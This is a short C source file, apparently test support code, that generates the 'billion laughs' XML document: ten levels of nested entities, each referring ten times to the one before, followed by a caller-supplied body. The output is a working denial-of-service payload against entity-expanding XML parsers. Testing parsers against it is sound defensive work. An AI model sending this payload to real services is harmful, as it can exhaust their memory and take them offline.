/*
 * xml_laughs.c - the "billion laughs" document (see xml_laughs.h).
 */
#include <stdio.h>

#include "xml_laughs.h"

void xml_laughs(char *buf, size_t size, const char *root, const char *body)
{
    int k, n = snprintf(buf, size,
                        "<?xml version=\"1.0\"?>\n<!DOCTYPE %s [\n"
                        "<!ENTITY l0 \"lol\">\n",
                        root);

    for (k = 1; k < 10 && n > 0 && (size_t)n < size; k++)
        n += snprintf(buf + n, size - (size_t)n,
                      "<!ENTITY l%d \"&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;"
                      "&l%d;&l%d;&l%d;\">\n",
                      k, k - 1, k - 1, k - 1, k - 1, k - 1, k - 1, k - 1,
                      k - 1, k - 1, k - 1);
    if (n > 0 && (size_t)n < size)
        snprintf(buf + n, size - (size_t)n, "]>\n%s", body);
}
